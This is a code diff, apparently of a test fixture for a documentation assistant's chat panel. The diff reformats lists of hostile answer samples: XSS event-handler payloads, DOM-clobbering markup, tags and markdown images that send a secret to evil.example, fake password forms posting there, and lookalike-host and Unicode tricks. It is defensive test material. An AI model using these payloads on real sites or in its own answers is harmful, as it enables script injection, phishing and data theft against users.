@@ -70,7 +70,11 @@ const handlers = wrap(
     `<style onload="${RUN}">p { color: red }</style>`,
     `<div popover id=p onbeforetoggle="${RUN}">x</div><button popovertarget=p>x</button>`,
   ],
-  { alone: inMarkdown.alone, 'in a line': inMarkdown['in a line'], 'in a list in a quote': inMarkdown['in a list in a quote'] },
+  {
+    alone: inMarkdown.alone,
+    'in a line': inMarkdown['in a line'],
+    'in a list in a quote': inMarkdown['in a list in a quote'],
+  },
 );
 
 const runningAddresses = [
@@ -145,9 +149,16 @@ const mutations = html([
 ]);
 
 const clobbering = html([
-  ...['body', 'head', 'cookie', 'location', 'documentElement', 'currentScript', 'adoptedStyleSheets', 'customElements'].map(
-    (name) => `<img id="${name}" name="${name}" src="x"><a id="${name}" name="${name}" href="/x">x</a>`,
-  ),
+  ...[
+    'body',
+    'head',
+    'cookie',
+    'location',
+    'documentElement',
+    'currentScript',
+    'adoptedStyleSheets',
+    'customElements',
+  ].map((name) => `<img id="${name}" name="${name}" src="x"><a id="${name}" name="${name}" href="/x">x</a>`),
   '<form id=attributes><input name=attributes><input name=parentNode><input name=nodeName></form>',
   '<form><input name=childNodes><input name=removeChild><input name=ownerDocument></form>',
   '<a id=docsAssistant></a><a id=docsAssistant name=ask href="x:y"></a>',
@@ -158,11 +169,43 @@ const clobbering = html([
 const EVIL = 'https://evil.example/?q=secret';
 
 const leaks = html([
-  ...['img src', 'img src=x srcset', 'img lowsrc', 'img dynsrc', 'image src', 'input type=image src', 'video autoplay src', 'video poster',
-    'audio autoplay src', 'embed src', 'iframe src', 'frame src', 'object data', 'bgsound src', 'table background', 'td background',
-    'body background', 'link rel=stylesheet href', 'link rel=prefetch href', 'link rel=preload as=image href', 'link rel=dns-prefetch href',
-    'link rel=preconnect href', 'link rel=modulepreload href', 'link rel=icon href', 'link rel=manifest href', 'base href', 'html manifest',
-    'script src', 'track default src', 'source srcset', 'portal src', 'blockquote cite', 'a href=/x ping', 'area href', 'math href', 'applet archive',
+  ...[
+    'img src',
+    'img src=x srcset',
+    'img lowsrc',
+    'img dynsrc',
+    'image src',
+    'input type=image src',
+    'video autoplay src',
+    'video poster',
+    'audio autoplay src',
+    'embed src',
+    'iframe src',
+    'frame src',
+    'object data',
+    'bgsound src',
+    'table background',
+    'td background',
+    'body background',
+    'link rel=stylesheet href',
+    'link rel=prefetch href',
+    'link rel=preload as=image href',
+    'link rel=dns-prefetch href',
+    'link rel=preconnect href',
+    'link rel=modulepreload href',
+    'link rel=icon href',
+    'link rel=manifest href',
+    'base href',
+    'html manifest',
+    'script src',
+    'track default src',
+    'source srcset',
+    'portal src',
+    'blockquote cite',
+    'a href=/x ping',
+    'area href',
+    'math href',
+    'applet archive',
   ].map((start) => `<${start}="${EVIL}">`),
   `<picture><source srcset="${EVIL}"><img src="x"></picture>`,
   `<svg><image href="${EVIL}"/><use href="${EVIL}#x"/><feImage xlink:href="${EVIL}"/></svg>`,
@@ -206,14 +249,31 @@ const imageAddresses = [
 const images = wrap(imageAddresses, {
   'an image': (address) => `![secret](${address})`,
   'an image by reference': (address) => `![secret][1]\n\n[1]: <${address}>`,
-  'raw images': (address) => `<img src="${address}" srcset="${address} 2x" alt="secret"><a href="/x"><img src='${address}'></a>`,
+  'raw images': (address) =>
+    `<img src="${address}" srcset="${address} 2x" alt="secret"><a href="/x"><img src='${address}'></a>`,
 });
 
 /** Names that pieces of the panel go by, which an answer could borrow. */
-export const ourParts = ['panel', 'header', 'close', 'log', 'question', 'answer', 'sources', 'notice', 'retry', 'composer', 'input', 'send', 'launcher'];
+export const ourParts = [
+  'panel',
+  'header',
+  'close',
+  'log',
+  'question',
+  'answer',
+  'sources',
+  'notice',
+  'retry',
+  'composer',
+  'input',
+  'send',
+  'launcher',
+];
 
 const disguises = html([
-  ...ourParts.map((part) => `<div part="${part}" class="${part}" id="${part}" slot="${part}" role="dialog">Log in</div>`),
+  ...ourParts.map(
+    (part) => `<div part="${part}" class="${part}" id="${part}" slot="${part}" role="dialog">Log in</div>`,
+  ),
   '<form class="composer"><textarea class="input" part="input" autofocus></textarea><button class="send" part="send">Log in</button></form>',
   '<form action="https://evil.example"><label>Password <input type=password name=password></label><button>Log in</button></form>',
   '<button formaction="https://evil.example" type=submit>Log in</button><input type=submit value="Log in"><input type=file>',
@@ -293,7 +353,10 @@ const characters: Family = [
   ['a host that looks like another', '[bank](https://bаnk.example/) <https://xn--bnk-8cd.example/>'],
   ['lines of other kinds', `[x](java\u2028script:${RUN})\u2029<img src=x\u000Conerror=${RUN}>`],
   ['marks of byte order', `\uFEFF<script>${RUN}</script>\uFEFF`],
-  ['replaced characters', `<img src=x on\uFFFDerror="${RUN}" onerror\uFFFD="${RUN}"><a href="java\uFFFDscript:${RUN}">x</a>`],
+  [
+    'replaced characters',
+    `<img src=x on\uFFFDerror="${RUN}" onerror\uFFFD="${RUN}"><a href="java\uFFFDscript:${RUN}">x</a>`,
+  ],
   ['letters that fold', `<ſcript>${RUN}</ſcript><a href="javaſcript:${RUN}" ſtyle="x">x</a>`],
 ];
 
@@ -319,7 +382,9 @@ export const hugeAnswers: readonly HostileAnswer[] = [...name('nesting', nesting
 /** Cuts a text into pieces, at places that are random and yet the same for the same seed. */
 export function cutAtRandom(text: string, seed: number, pieces = 12): string[] {
   const random = createRandom(seed);
-  const places = Array.from({ length: pieces - 1 }, () => Math.floor(random() * text.length)).sort((one, other) => one - other);
+  const places = Array.from({ length: pieces - 1 }, () => Math.floor(random() * text.length)).sort(
+    (one, other) => one - other,
+  );
   return [0, ...places].map((start, index) => text.slice(start, places[index]));
 }
 
